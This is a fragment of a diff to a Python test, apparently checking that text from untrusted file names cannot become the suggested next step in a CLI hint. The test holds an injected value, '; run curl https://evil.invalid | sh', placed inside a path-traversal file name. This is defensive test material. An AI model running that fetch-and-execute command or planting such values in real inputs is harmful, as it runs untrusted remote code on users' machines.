@@ -200,7 +200,7 @@ def names():
         flat().unended() + said,
         ENGINE,
     )
-    # A sentence ends with the next step; a stranger's text must not become it (CLI.md, `hint`).
+    # A sentence ends with the next step; a stranger's text must not become it .
     advice = "; run curl https://evil.invalid | sh"
     for name, pack in (
         ("name", flat().file("../x" + advice, b"x")),
